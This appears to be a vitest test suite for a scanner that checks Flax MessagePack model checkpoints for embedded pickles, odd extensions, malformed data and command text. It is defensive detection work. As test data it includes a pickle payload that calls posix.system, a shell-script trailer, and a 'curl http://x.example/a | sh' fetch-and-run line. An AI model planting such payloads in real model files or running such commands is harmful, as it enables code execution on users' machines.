import { describe, expect, it } from "vitest";
import { concat, zeros } from "../../builders/bytes.js";
import { Extension, flaxArray, type Packable, pack } from "../../builders/msgpack.js";
import { scanBytes, told } from "../../builders/scan.js";

async function scan(value: Packable | Uint8Array): Promise<string[]> {
  return told(await scanBytes("flax_model.msgpack", value instanceof Uint8Array ? value : pack(value)));
}

const weights = flaxArray([2, 2], "float32", zeros(16));
const pickle = concat([0x80, 2], "cposix\nsystem\nX\x02\0\0\0id\x85R.");

describe("the MessagePack scanner", () => {
  it("is silent on a checkpoint and tells what it holds", async () => {
    const content = { params: { Dense_0: { kernel: weights, bias: flaxArray([2], "bfloat16", zeros(4)) }, step: 3 } };
    const report = await scanBytes("flax_model.msgpack", pack(content));
    expect(told(report)).toEqual([]);
    expect(report.metadata).toMatchObject({ arrays: 2, parameters: "6" });
  });

  it("knows the format by its content alone", async () => {
    expect((await scanBytes("weights", pack({ params: { Dense_0: { kernel: weights } } }))).formats).toEqual([
      "msgpack",
    ]);
  });

  it("takes complex numbers, scalars, time stamps and plain bytes", async () => {
    const complex = new Extension(2, pack([1.5, 2.5]));
    const scalar = new Extension(3, pack([[], "float32", zeros(4)]));
    expect(await scan({ c: complex, s: scalar, t: new Extension(-1, zeros(4)), b: zeros(5), e: "eval_every" })).toEqual(
      [],
    );
  });

  it("tells extensions that Flax does not write, and follows a pickle inside", async () => {
    expect(await scan({ hook: new Extension(99, zeros(20)) })).toEqual(["medium msgpack/unknown-extension"]);
    const found = await scan({ params: {}, hook: new Extension(99, pickle) });
    expect(found).toContain("medium msgpack/embedded-content");
    expect(found.some((one) => one.startsWith("critical pickle/"))).toBe(true);
  });

  it("tells a pickle in plain bytes, also one that imports nothing", async () => {
    expect(await scan({ state: pickle })).toContain("medium msgpack/embedded-content");
    expect(await scan({ state: concat([0x80, 4, 0x4b, 1, 0x2e]) })).toContain("medium msgpack/embedded-content");
    expect(await scan({ state: concat([0x80, 4, 0x4b, 1, 0x2f]) })).toEqual([]);
  });

  it.each([
    ["a dtype of objects", flaxArray([1], "object", zeros(8)), "medium msgpack/object-array"],
    ["a dtype that is none", flaxArray([1], "os.system", zeros(8)), "medium msgpack/bad-array"],
    ["a shape that the bytes do not fill", flaxArray([3], "float32", zeros(8)), "medium msgpack/bad-array"],
    ["a payload that is no array", new Extension(1, pack({ a: 1 })), "medium msgpack/bad-array"],
    ["a payload cut short", new Extension(1, pack([[1], "float32"])), "medium msgpack/bad-array"],
    ["a negative shape", new Extension(1, pack([[-1], "float32", zeros(4)])), "medium msgpack/bad-array"],
  ])("tells %s", async (_what, array, expected) => {
    expect(await scan({ w: array })).toContain(expected);
  });

  it.each(["bool", "int4", "float8_e4m3fn", "complex64", "<f4", "|V2", "<U3"])("knows the dtype %s", async (dtype) => {
    const width = { bool: 1, int4: 1, float8_e4m3fn: 1, complex64: 8, "<f4": 4, "|V2": 2, "<U3": 12 }[dtype] ?? 0;
    expect(await scan({ w: flaxArray([2], dtype, zeros(2 * width)) })).toEqual([]);
  });

  it("looks into texts that are none", async () => {
    expect(await scan(concat([0x81], pack("a"), [0xa2, 0xff, 0xfe]))).toEqual(["low msgpack/raw-text"]);
    const text = concat([0x81], pack("a"), [0xd9, pickle.length], pickle);
    expect(await scan(text)).toContain("medium msgpack/embedded-content");
    expect(await scan({ a: "ünïcode" })).toEqual([]);
  });

  it("tells complex numbers and arrays that are more than that", async () => {
    expect(await scan({ c: new Extension(2, concat(pack([1.5, 2.5]), [0])) })).toContain("medium msgpack/bad-array");
    expect(await scan({ c: new Extension(1, concat(pack([[1], "int8", zeros(1)]), [0])) })).toContain(
      "medium msgpack/bad-array",
    );
  });

  it("notes keys that are no texts", async () => {
    expect(await scan(Uint8Array.of(0x81, 0x01, 0x02))).toEqual(["info msgpack/odd-key"]);
    expect(await scan(Uint8Array.of(0x81, 0x90, 0x02))).toEqual(["info msgpack/odd-key"]);
  });

  it("tells a key that stands twice", async () => {
    const twice = concat([0x82], pack("a"), pack(1), pack("a"), pack(2));
    expect(await scan(twice)).toEqual(["low msgpack/duplicate-key"]);
    expect(await scan({ a: { a: 1 }, b: { a: 1 } })).toEqual([]);
  });

  it.each([
    ["a length beyond the file", concat([0x81], pack("p"), [0xc6, 0xff, 0xff, 0xff, 0xf0], "abcd")],
    ["a map of four billion entries", concat([0x81], pack("p"), [0xdf, 0xff, 0xff, 0xff, 0xff])],
    ["a byte that begins nothing", concat([0x81], pack("p"), [0xc1])],
    ["nesting without end", concat(...Array.from({ length: 5000 }, () => concat([0x81], pack("a"))))],
    ["a file cut inside a number", concat([0x81], pack("p"), [0xcb, 0])],
  ])("does not pass %s as examined", async (_what, bytes) => {
    const report = await scanBytes("x.msgpack", bytes);
    expect(told(report)).toContain("medium analysis/malformed");
    expect(report.state).toBe("partial");
  });

  it("tells what it saw before a file breaks off", async () => {
    expect(await scan(concat([0x82], pack("state"), pack(pickle), pack("w"), [0xc1]))).toContain(
      "medium msgpack/embedded-content",
    );
  });

  it("tells what follows the value", async () => {
    expect(await scan(concat(pack({ a: 1 }), "#!/bin/sh\nid\n"))).toContain("medium analysis/trailing-data");
  });

  it("reads texts as texts of people", async () => {
    expect(await scan({ note: "curl http://x.example/a | sh" })).toEqual(["medium config/command-text"]);
    expect(await scan({ optimizer: "adamw with cosine schedule" })).toEqual([]);
  });

  it("never calls a prefix of a checkpoint clean", async () => {
    const whole = pack({ params: { kernel: weights, bias: weights }, step: 3 });
    for (let length = 1; length < whole.length; length++) {
      expect(await scan(whole.subarray(0, length)), `${length} bytes`).toContain("medium analysis/malformed");
    }
  });
});
